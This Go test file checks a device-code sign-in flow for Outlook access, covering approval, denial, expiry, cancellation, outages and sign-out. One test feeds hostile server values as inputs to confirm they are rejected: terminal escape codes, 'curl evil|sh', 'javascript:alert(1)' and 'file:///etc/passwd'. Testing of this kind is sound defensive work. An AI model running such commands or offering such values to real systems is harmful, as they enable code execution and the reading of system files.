package msalauth_test

import (
	"context"
	"errors"
	"net/http"
	"reflect"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/calwatch/calwatch/internal/fakeserver/signin"
	"github.com/calwatch/calwatch/outlookstream/auth"
	"github.com/calwatch/calwatch/outlookstream/auth/msalauth"
)

// attempt signs in; then says what happens once the code is shown.
func (w *world) attempt(ctx context.Context, then func(code msalauth.DeviceCode)) (msalauth.Account, error) {
	a, err := w.SignInDeviceCode(ctx, mail, func(_ context.Context, c msalauth.DeviceCode) error {
		then(c)
		return nil
	})
	return a, w.saw(err)
}

func TestDeviceCodeApprovedAfterAWhile(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t, &signin.Options{Accounts: []signin.Account{{User: "alex@contoso.test", Name: "Alex"}}})
		start := time.Now()
		account, err := w.attempt(t.Context(), func(c msalauth.DeviceCode) {
			if c.VerificationURL != "https://signin.test/device" || !strings.Contains(c.Message, c.UserCode) || !c.ExpiresOn.Equal(start.Add(15*time.Minute).UTC()) {
				t.Errorf("shown: %+v", c)
			}
			time.AfterFunc(10*time.Minute, func() {
				if err := w.server.Approve(c.UserCode, ""); err != nil {
					t.Error(err)
				}
			})
		})
		if err != nil || time.Since(start) > 10*time.Minute+5*time.Second {
			t.Fatalf("%v after %s", err, time.Since(start))
		}
		want := msalauth.Account{ID: w.server.Accounts()[0].ObjectID + "." + w.server.Tenant(), Username: "alex@contoso.test", Name: account.Name, TenantID: w.server.Tenant(), Scopes: account.Scopes, ExpiresOn: account.ExpiresOn}
		if now := w.only(); !reflect.DeepEqual(account, want) || !reflect.DeepEqual(now, account) {
			t.Errorf("account %+v, want %+v", account, want)
		}
		if !slices.Contains(account.Scopes, mail[0]) || account.ExpiresOn.Sub(time.Now().Add(time.Hour)).Abs() > time.Minute {
			t.Errorf("scopes %q until %v", account.Scopes, account.ExpiresOn)
		}
		w.net.posts()
		token := w.token(auth.Request{})
		if !w.accepted(token) || w.net.posts() != 0 {
			t.Error("the token of the sign-in is not used")
		}
		if !token.ExpiresOn.After(time.Now().Add(50 * time.Minute)) {
			t.Errorf("%v", token)
		}
	})
}

func TestDeclinedDeviceCode(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t, nil)
		_, err := w.attempt(t.Context(), func(c msalauth.DeviceCode) { w.saw(w.server.Deny(c.UserCode)) })
		ie, ok := errors.AsType[*auth.InteractionError](err)
		if !ok || ie.Code != "authorization_declined" || !strings.Contains(err.Error(), "declined") {
			t.Errorf("got %v", err)
		}
		if w.only().ID != "" {
			t.Error("somebody is signed in")
		}
	})
}

func TestExpiredDeviceCode(t *testing.T) {
	for name, lifetime := range map[string]time.Duration{"while polling": 15 * time.Minute, "before the next poll": 2*time.Minute + 1} {
		synctest.Test(t, func(t *testing.T) {
			w := newWorld(t, &signin.Options{DeviceCodeLifetime: lifetime})
			_, err := w.attempt(t.Context(), func(msalauth.DeviceCode) {})
			if !errors.Is(err, auth.ErrInteractionRequired) || errors.Is(err, context.DeadlineExceeded) ||
				!strings.Contains(err.Error(), "expired before anybody approved it") {
				t.Errorf("%s: got %v", name, err)
			}
		})
	}
}

func TestSignInEndsWithItsContext(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t, nil)
		cause := errors.New("changed my mind")
		ctx, cancel := context.WithCancelCause(t.Context())
		start := time.Now()
		_, err := w.attempt(ctx, func(msalauth.DeviceCode) { time.AfterFunc(time.Minute, func() { cancel(cause) }) })
		if !errors.Is(err, cause) || time.Since(start) != time.Minute {
			t.Errorf("%v after %s", err, time.Since(start))
		}
	})
}

func TestSignInEndsWithItsContextWhileAPollHangs(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t, &signin.Options{Fault: func(on, _ string) (*signin.Response, bool) {
			return &signin.Response{Delay: time.Hour}, on == "token"
		}})
		ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
		defer cancel()
		start := time.Now()
		if _, err := w.attempt(ctx, func(msalauth.DeviceCode) {}); !errors.Is(err, context.DeadlineExceeded) || time.Since(start) != 10*time.Second {
			t.Errorf("%v after %s", err, time.Since(start))
		}
		start = time.Now()
		_, err := w.attempt(t.Context(), func(msalauth.DeviceCode) {}) // nobody cancels: the code's end does
		if !errors.Is(err, auth.ErrInteractionRequired) || !strings.Contains(err.Error(), "no answer within 30s") || time.Since(start) != 15*time.Minute {
			t.Errorf("%v after %s", err, time.Since(start))
		}
	})
}

func TestPollingSurvivesAnOutage(t *testing.T) {
	for name, outage := range map[string]func(*http.Request, *http.Response) (*http.Response, error){
		"network down": down, "503": answerToken(503, "<html>"), "429": answerToken(429, `{"error":"temporarily_unavailable"}`),
	} {
		synctest.Test(t, func(t *testing.T) {
			w := newWorld(t, nil)
			_, err := w.attempt(t.Context(), func(c msalauth.DeviceCode) {
				w.net.set(outage)
				time.AfterFunc(3*time.Minute, func() { w.net.set(nil); w.saw(w.server.Approve(c.UserCode, "")) })
			})
			if err != nil {
				t.Errorf("%s: %v", name, err)
			}
		})
	}
}

func TestFailedPromptEndsTheSignIn(t *testing.T) {
	w := newWorld(t, nil)
	broken := errors.New("the terminal is closed")
	_, err := w.SignInDeviceCode(t.Context(), mail, func(context.Context, msalauth.DeviceCode) error { return broken })
	if !errors.Is(err, broken) || w.net.posts() != 0 {
		t.Errorf("got %v", err)
	}
}

func TestWhatIsShownPlaysNoTricks(t *testing.T) {
	w := newWorld(t, nil)
	code := "AB-12"
	answer := func(url string) {
		w.net.set(func(r *http.Request, resp *http.Response) (*http.Response, error) {
			if resp == nil && strings.HasSuffix(r.URL.Path, "/devicecode") {
				return reply(200, `{"user_code":"`+code+`","device_code":"d","verification_uri":"`+url+`","expires_in":900,"interval":5,"message":"open\u001b]0;x\u0007 it\u202e"}`), nil
			}
			return resp, nil
		})
	}
	seen := errors.New("seen")
	prompt := func(_ context.Context, c msalauth.DeviceCode) error {
		if strings.ContainsAny(c.Message+c.UserCode+c.VerificationURL, "\x1b\a\u202e") {
			t.Errorf("shown: %q", c)
		}
		return seen
	}
	answer("https://microsoft.com/devicelogin")
	if _, err := w.SignInDeviceCode(t.Context(), mail, prompt); !errors.Is(err, seen) {
		t.Errorf("got %v", err)
	}
	for _, code = range []string{`AB\u001b[2J`, "", "curl evil|sh", strings.Repeat("A", 33)} {
		answer("https://microsoft.com/devicelogin")
		if _, err := w.SignInDeviceCode(t.Context(), mail, prompt); !errors.Is(err, auth.ErrMisconfigured) {
			t.Errorf("code %q: %v", code, err)
		}
	}
	code = "AB-12"
	for _, url := range []string{"http://evil.test/", "javascript:alert(1)", "", "file:///etc/passwd"} {
		answer(url)
		if _, err := w.SignInDeviceCode(t.Context(), mail, prompt); err == nil || errors.Is(err, seen) {
			t.Errorf("%q was shown", url)
		}
	}
}

func TestSignOut(t *testing.T) {
	w := newWorld(t, nil)
	if err := w.SignOut(t.Context(), ""); !errors.Is(err, auth.ErrInteractionRequired) {
		t.Errorf("nobody can be signed out: %v", err)
	}
	if err := w.fails(auth.Request{}); !errors.Is(err, auth.ErrInteractionRequired) {
		t.Errorf("before the sign-in: %v", err)
	}
	w.signIn()
	w.token(auth.Request{})
	if err := w.SignOut(t.Context(), "Alex@Contoso.test"); err != nil {
		t.Error(err)
	}
	if err := w.fails(auth.Request{}); !errors.Is(err, auth.ErrInteractionRequired) {
		t.Errorf("after the sign-out: %v", err)
	}
	if w.only().ID != "" || w.net.posts() != 0 {
		t.Error("something is left of the account")
	}
	w.signIn()
	if !w.accepted(w.token(auth.Request{})) {
		t.Error("the provider does not find the account that has signed in again")
	}
}
